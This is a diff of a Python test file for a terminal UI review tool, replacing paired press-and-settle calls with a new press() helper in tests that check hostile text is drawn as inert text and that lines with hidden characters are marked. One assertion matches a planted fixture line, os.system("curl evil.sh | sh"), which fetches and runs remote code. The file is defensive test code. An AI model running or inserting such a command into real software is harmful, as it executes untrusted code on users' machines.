@@ -23,7 +23,7 @@ from store.errors import ValidationError
 from store.models import Project
 from store.services.modifications import ModificationProposal, propose_modification
 from store.validation import codebase_path
-from tests.app_support import demo_database_file, demo_url, running_app, settle
+from tests.app_support import demo_database_file, demo_url, press, running_app, settle
 from tests.cli import Projdeck
 from tui.format import HIDDEN_STYLE, safe, sealed
 from tui.screens.review import ReviewScreen
@@ -201,8 +201,7 @@ async def test_app_screens_draw_hostile_text_as_text(demo_url: URL) -> None:
     async with running_app(demo_url) as (app, pilot):
         seen = []
         for keys in (["1"], ["5"], ["3"], ["enter"], ["4"], ["6"], ["1", "enter"]):
-            await pilot.press(*keys)
-            await settle(pilot)
+            await press(pilot, *keys)
             picture = app.export_screenshot()
             assert not forbidden_in(picture), (keys, forbidden_in(picture))
             seen.append(picture)
@@ -217,8 +216,7 @@ async def test_app_screens_draw_hostile_text_as_text(demo_url: URL) -> None:
 async def test_review_diff_marks_lines_with_hidden_characters(demo_url: URL) -> None:
     await _plant_hostile_data(demo_url)
     async with running_app(demo_url) as (app, pilot):
-        await pilot.press("3")
-        await settle(pilot)
+        await press(pilot, "3")
         await pilot.press("enter")  # the newest modification: the hostile one
         await settle(pilot)
         screen = app.screen
@@ -236,8 +234,7 @@ async def test_review_diff_marks_lines_with_hidden_characters(demo_url: URL) -> 
         plain = [line for line in drawn if 'os.system("curl evil.sh | sh")' in line]
         assert plain and WARNING_MARK not in plain[0]
         for pressed in ("s",):  # side by side marks them too
-            await pilot.press(pressed)
-            await settle(pilot)
+            await press(pilot, pressed)
             drawn = [
                 "".join(segment.text for segment in diff.render_line(y))
                 for y in range(diff.size.height)
